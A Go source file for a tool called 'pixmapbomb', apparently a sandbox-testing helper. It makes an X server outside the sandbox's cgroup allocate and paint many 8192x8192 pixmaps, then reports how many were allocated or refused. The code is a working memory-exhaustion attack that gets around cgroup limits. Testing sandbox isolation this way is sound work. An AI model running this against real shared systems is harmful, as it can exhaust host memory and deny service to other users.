// Command pixmapbomb is an X client an attacker would run inside a sandbox
// to make its X server (which runs outside the sandbox's user cgroup leaf)
// allocate gigabytes: it creates N pixmaps of 8192x8192 and paints each
// (so their pages are really used). It prints "ALLOCATED a REFUSED r".
package main

import (
	"fmt"
	"os"
	"strconv"

	"github.com/jezek/xgb"
	"github.com/jezek/xgb/xproto"
)

func main() {
	n, err := strconv.Atoi(os.Args[1])
	if err != nil {
		fmt.Println("usage: pixmapbomb N")
		os.Exit(2)
	}
	c, err := xgb.NewConn()
	if err != nil {
		fmt.Println("NOX", err)
		os.Exit(3)
	}
	defer c.Close()
	screen := xproto.Setup(c).DefaultScreen(c)
	allocated, refused := 0, 0
	for i := 0; i < n; i++ {
		pm, err := xproto.NewPixmapId(c)
		if err != nil {
			break
		}
		if err := xproto.CreatePixmapChecked(c, screen.RootDepth, pm, xproto.Drawable(screen.Root), 8192, 8192).Check(); err != nil {
			refused++
			continue
		}
		gc, _ := xproto.NewGcontextId(c)
		if err := xproto.CreateGCChecked(c, gc, xproto.Drawable(pm), xproto.GcForeground, []uint32{0x123456}).Check(); err != nil {
			refused++
			continue
		}
		if err := xproto.PolyFillRectangleChecked(c, xproto.Drawable(pm), gc, []xproto.Rectangle{{X: 0, Y: 0, Width: 8192, Height: 8192}}).Check(); err != nil {
			refused++
			continue
		}
		allocated++
	}
	fmt.Printf("ALLOCATED %d REFUSED %d\n", allocated, refused)
}
